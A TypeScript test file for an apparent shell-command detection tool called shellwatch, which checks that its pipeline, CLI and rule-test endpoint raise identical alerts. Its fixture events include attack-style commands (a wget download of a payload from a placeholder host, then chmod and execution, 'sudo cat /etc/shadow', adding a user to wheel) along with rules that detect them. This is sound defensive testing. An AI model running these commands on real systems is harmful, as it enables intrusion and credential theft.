import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pipelineWithFakes } from '../test/support/pipeline';
import { RuleCheckService } from './api/rule-check.service';
import { evalCommand } from './cli/eval.command';
import { loadRulesOrExplain } from './cli/load-rules';
import type { CliRuleSet } from './cli/load-rules';
import { testCommand } from './cli/rules.command';
import { loadConfig } from './config/config';
import type { Config } from './config/config';
import type { BatchRecord } from './core/process-batch';
import { PartitionCorrelations } from './correlation/partition-correlation';
import type { ChangelogRecord, StateChangelogPort } from './kafka/state-changelog';
import { DecoderFactory } from './pipeline/decoder-factory';
import { RuleRegexService } from './regex-check/rule-regex.service';
import { readRuleFolder } from './rules-store/rule-files';
import { RuleFileWriter } from './rules-store/rule-file-writer';
import type { RuleStore } from './rules-store/rule-store.service';
import type { KafkaRuleStore } from './rules-store/kafka-rule-store.service';

/**
 * Issue 24: the pipeline, `shellwatch eval`, `POST /rules/test` and `shellwatch rules
 * test` are thin callers of one event run (src/core/event-run). The same records (nine
 * formats, malformed ones, a suppressed rule, a threshold, a sequence and a sequence
 * with an absence) go through each entry point, and each must write the same alerts
 * (ids, rules, contributing events) and dead-letter the same records.
 *
 * Ids name where a record came from; each entry point has its own source
 * (`t:0:<offset>`, `-:0:<line>`, `input:0:<index>`), so they are compared with the
 * record's 1-based line in place of the source (`@<line>`). The four harnesses stay in
 * this one file (over 400 lines) so that what each entry point is given reads side by side.
 */
const ROOT = resolve(__dirname, '..');
const MIXED = readFileSync(resolve(ROOT, 'test/fixtures/formats/mixed-malicious.log'), 'utf8')
  .split('\n')
  .filter((line) => line !== '');

const program = (name: string): Record<string, unknown> => ({
  all: [{ fact: 'programs', operator: 'contains', value: name }],
});
const commandLine = (regex: string): Record<string, unknown> => ({
  all: [{ fact: 'process', path: '$.command_line', operator: 'regex', value: regex }],
});

/** Our own rules besides the basic fixture's three single-event rules. */
const RULES: Record<string, unknown>[] = [
  {
    id: 'SW-TST-0101',
    name: 'sudo, once per user and hour',
    severity: 'low',
    conditions: commandLine('^sudo\\s'),
    suppression: { groupBy: ['user.name'], period: '1h' },
  },
  {
    id: 'SW-TST-0102',
    name: 'whoami three times within a minute',
    severity: 'medium',
    type: 'threshold',
    conditions: program('whoami'),
    threshold: { groupBy: ['user.name'], window: '1m', count: 3 },
  },
  {
    id: 'SW-TST-0103',
    name: 'download, chmod, run',
    severity: 'high',
    type: 'sequence',
    sequence: {
      groupBy: ['session.id'],
      window: '5m',
      steps: [
        { name: 'download', conditions: program('wget') },
        { name: 'chmod', conditions: program('chmod') },
        { name: 'run', conditions: commandLine('^\\./payload') },
      ],
    },
  },
  {
    id: 'SW-TST-0104',
    name: 'useradd and usermod without passwd within a minute',
    severity: 'medium',
    type: 'sequence',
    sequence: {
      groupBy: ['user.name'],
      window: '1m',
      steps: [
        { name: 'add', conditions: program('useradd') },
        { name: 'modify', conditions: program('usermod') },
      ],
      absence: { name: 'passwd', conditions: program('passwd'), within: '1m' },
    },
  },
];

const T0 = Date.parse('2026-11-25T17:00:00.000Z');

function ecs(atSeconds: number, user: string, session: string, command: string): string {
  return JSON.stringify({
    '@timestamp': new Date(T0 + atSeconds * 1000).toISOString(),
    user: { name: user },
    host: { name: 'web01' },
    session: { id: session },
    process: { command_line: command },
  });
}

/**
 * The input, in stream order: event-time patterns first (the mixed file's records
 * without a time of their own are stamped when decoded, later than all of these), then
 * every format of the mixed file, with malformed records in between.
 */
const LINES: string[] = [
  ecs(0, 'mallory', 's1', 'wget http://x.example/payload'),
  ecs(1, 'mallory', 's1', 'whoami'),
  ecs(2, 'mallory', 's1', 'sudo id'),
  ecs(5, 'mallory', 's1', 'whoami'),
  '{"@timestamp":"2026-11-25T17:00:06Z","process":{"command_line":42}}',
  ecs(8, 'mallory', 's1', 'chmod +x payload'),
  ecs(9, 'mallory', 's1', 'sudo id'),
  ecs(10, 'mallory', 's1', 'whoami'),
  ecs(12, 'mallory', 's1', './payload --quiet'),
  ecs(13, 'mallory', 's1', 'sudo cat /etc/shadow'),
  ecs(20, 'oscar', 's2', 'useradd backup2'),
  ecs(21, 'trent', 's3', 'useradd svc'),
  '{"@timestamp": "2026-11-25T17:00:2',
  ecs(22, 'oscar', 's2', 'usermod -aG wheel backup2'),
  ecs(23, 'trent', 's3', 'usermod -aG wheel svc'),
  ecs(30, 'trent', 's3', 'passwd svc'),
  ecs(200, 'peggy', 's4', 'ls -la'),
  ...MIXED,
];

/** A record's line (1-based) from an id or offset of any entry point's source. */
function normalize(text: string): string {
  return text
    .replaceAll(/(^|:)input:0:(\d+)/g, (_all, before: string, index: string) => {
      return `${before}@${Number(index) + 1}`;
    })
    .replaceAll(/(^|:)(?:t|-):0:(\d+)/g, (_all, before: string, line: string) => {
      return `${before}@${line}`;
    });
}

/** What an alert must be the same in: its id, its rule, what it cites. */
interface AlertView {
  id: string;
  rule: string;
  events?: string[];
}

function viewOf(id: string, body: Record<string, unknown>): AlertView {
  const rule = (body['rule'] as { id: string }).id;
  const correlation = (body['shellwatch'] as { correlation?: { events: { id: string }[] } })
    .correlation;
  return {
    id: normalize(id),
    rule,
    ...(correlation === undefined
      ? {}
      : { events: correlation.events.map((event) => normalize(event.id)) }),
  };
}

const byId = (a: AlertView, b: AlertView): number => (a.id < b.id ? -1 : a.id > b.id ? 1 : 0);

class Capture extends Writable {
  text = '';
  override _write(chunk: Buffer, _encoding: BufferEncoding, done: () => void): void {
    this.text += chunk.toString();
    done();
  }
}

/** An in-memory compacted topic for the pipeline's correlation checkpoints. */
class MemoryChangelog implements StateChangelogPort {
  private readonly topic = new Map<string, string>();
  ensureTopic(): Promise<void> {
    return Promise.resolve();
  }
  write(_partition: number, records: ChangelogRecord[]): Promise<void> {
    for (const r of records) {
      if (r.value === null) this.topic.delete(r.key);
      else this.topic.set(r.key, r.value);
    }
    return Promise.resolve();
  }
  read(_partition: number, prefix: string): Promise<Map<string, string>> {
    return Promise.resolve(new Map([...this.topic].filter(([key]) => key.startsWith(prefix))));
  }
}

let dir: string;
let rulesDir: string;
let config: Config;
let loaded: CliRuleSet;
let regexes: RuleRegexService;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'sw-event-path-'));
  rulesDir = join(dir, 'rules');
  cpSync(resolve(ROOT, 'test/fixtures/rules/basic'), rulesDir, { recursive: true });
  for (const rule of RULES)
    writeFileSync(join(rulesDir, `${String(rule['id'])}.json`), JSON.stringify(rule));
  writeFileSync(join(dir, 'input.log'), `${LINES.join('\n')}\n`);
  config = loadConfig({ RULES_DIR: rulesDir, API_KEY: 'k'.repeat(32) });
  const result = await loadRulesOrExplain(rulesDir);
  if ('problems' in result) throw new Error(result.problems);
  loaded = result;
  regexes = new RuleRegexService();
});

afterAll(() => {
  regexes?.onModuleDestroy();
  rmSync(dir, { recursive: true, force: true });
});

/** The pipeline with fakes for Kafka, Elasticsearch and the rule store, in two batches. */
async function throughPipeline(): Promise<{ alerts: AlertView[]; deadLetters: string[] }> {
  const partitions = new PartitionCorrelations(new MemoryChangelog(), {
    graceMs: config.correlation.graceMs,
    maxKeys: config.correlation.maxKeys,
  });
  const { pipeline, written, deadLetters } = pipelineWithFakes(config, loaded, {
    correlation: {
      begin: (
        partition: number,
        firstOffset: string,
        rules: Parameters<typeof partitions.begin>[2],
      ) => partitions.begin(partition, firstOffset, rules),
    },
  });
  const encoder = new TextEncoder();
  const records: BatchRecord[] = LINES.map((line, i) => ({
    offset: String(i + 1),
    value: encoder.encode(line),
  }));
  // Two batches, the second starting in the middle of the sequence and the threshold.
  for (const part of [records.slice(0, 7), records.slice(7)]) {
    const ack = await pipeline.handleBatch({
      topic: 't',
      partition: 0,
      records: part,
      heartbeat: () => Promise.resolve(),
      isActive: () => true,
    });
    expect(ack.complete).toBe(true);
  }
  return {
    alerts: written
      .filter((d) => d.target === 'alerts' && d.op === undefined)
      .map((d) => viewOf(d.id, d.body))
      .sort(byId),
    deadLetters: deadLetters.map((letter) => `@${letter.offset} ${letter.reason}`).sort(),
  };
}

async function throughEval(): Promise<{ alerts: AlertView[]; deadLetters: string[] }> {
  const out = new Capture();
  const err = new Capture();
  const code = await evalCommand(
    { rules: rulesDir, input: join(dir, 'input.log'), format: 'auto' },
    out,
    err,
  );
  expect(code).toBe(0);
  const alerts = out.text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => {
      const body = JSON.parse(line) as Record<string, unknown>;
      const id = (body['shellwatch'] as { alert_id: string }).alert_id;
      return viewOf(id, body);
    });
  const deadLetters = [...err.text.matchAll(/^line (\d+): ([A-Z_]+):/gm)].map(
    ([, line, reason]) => `@${line} ${reason}`,
  );
  return { alerts: alerts.sort(byId), deadLetters: deadLetters.sort() };
}

/** POST /rules/test's service, once per rule of the folder, over all the records. */
async function throughRulesTestEndpoint(): Promise<{
  alerts: AlertView[];
  deadLetters: string[];
  suppressed: number;
}> {
  const folder = await readRuleFolder(rulesDir);
  const store = {
    activeRule: (id: string) => {
      const source = folder.rules.find((file) => file.path.endsWith(`${id}.json`));
      return source === undefined ? undefined : { source };
    },
  };
  const checks = new RuleCheckService(
    store as unknown as RuleStore,
    new RuleFileWriter(config),
    regexes,
    new DecoderFactory(config.input),
    config,
    // RULES_STORE=files here: the rule topic is never read.
    {} as KafkaRuleStore,
  );
  const alerts: AlertView[] = [];
  const deadLetters = new Set<string>();
  let suppressed = 0;
  for (const rule of loaded.rules) {
    const ruleId = rule.definition.id;
    const answer = await checks.test({ ruleId, records: LINES });
    for (const result of answer.results) {
      if (result.alertId !== undefined)
        alerts.push({ id: normalize(result.alertId), rule: ruleId });
      else if (result.matched && answer.alerts === undefined) suppressed += 1;
    }
    for (const alert of answer.alerts ?? []) {
      alerts.push({
        id: normalize(alert.id),
        rule: ruleId,
        events: alert.inputs.map((index) => `@${index + 1}`),
      });
    }
    for (const letter of answer.deadLetters ?? [])
      deadLetters.add(`@${letter.index + 1} ${letter.reason}`);
  }
  return { alerts: alerts.sort(byId), deadLetters: [...deadLetters].sort(), suppressed };
}

/**
 * `shellwatch rules test --fixture`: the records that decode, in order, as one case
 * expecting exactly the rules the pipeline alerted with; each malformed record as a case
 * of its own, which must fail with the pipeline's dead-letter reason.
 */
async function throughRulesTest(
  expectedRules: string[],
  deadLetters: string[],
): Promise<{ code: number; out: string; err: string }> {
  const bad = new Set(deadLetters.map((letter) => Number(letter.split(' ')[0]?.slice(1))));
  const good = LINES.filter((_line, i) => !bad.has(i + 1));
  const fixture = join(dir, 'fixture.jsonl');
  writeFileSync(
    fixture,
    [
      JSON.stringify({ records: good, expect: expectedRules, exact: true }),
      ...[...bad].map((line) => JSON.stringify({ records: [LINES[line - 1]], expect: [] })),
    ].join('\n'),
  );
  const out = new Capture();
  const err = new Capture();
  const code = await testCommand(rulesDir, fixture, out, err);
  return { code, out: out.text, err: err.text };
}

describe('one event path, four entry points', () => {
  it('the pipeline, eval, POST /rules/test and rules test write the same alerts', async () => {
    const pipeline = await throughPipeline();
    // The input holds what it must: every kind of alert, a suppressed match, dead letters.
    const rules = new Set(pipeline.alerts.map((a) => a.rule));
    expect([...rules].sort()).toEqual([
      'SW-DST-0001',
      'SW-EXE-0001',
      'SW-EXE-0002',
      'SW-TST-0101',
      'SW-TST-0102',
      'SW-TST-0103',
      'SW-TST-0104',
    ]);
    expect(pipeline.alerts.filter((a) => a.rule === 'SW-TST-0102')).toHaveLength(1);
    expect(pipeline.alerts.filter((a) => a.rule === 'SW-TST-0104')).toEqual([
      expect.objectContaining({ events: ['@11', '@14'] }),
    ]);
    expect(pipeline.deadLetters.length).toBeGreaterThanOrEqual(3);

    const evaluated = await throughEval();
    expect(evaluated.alerts).toEqual(pipeline.alerts);
    expect(evaluated.deadLetters).toEqual(pipeline.deadLetters);

    const endpoint = await throughRulesTestEndpoint();
    expect(endpoint.alerts).toEqual(pipeline.alerts);
    expect(endpoint.deadLetters).toEqual(pipeline.deadLetters);
    // sudo matched more often than it alerted: suppression held the others back.
    expect(endpoint.suppressed).toBeGreaterThan(0);

    const tested = await throughRulesTest([...rules], pipeline.deadLetters);
    const failures = tested.err.split('\n').filter((line) => line.startsWith('FAIL'));
    expect(failures).toHaveLength(pipeline.deadLetters.length);
    for (const letter of pipeline.deadLetters) {
      const reason = letter.split(' ')[1] ?? '';
      expect(failures.some((line) => line.includes(`undecodable (${reason}:`))).toBe(true);
    }
    expect(tested.err).not.toContain('unexpected');
    expect(tested.err).not.toContain('expected SW');
  });
});
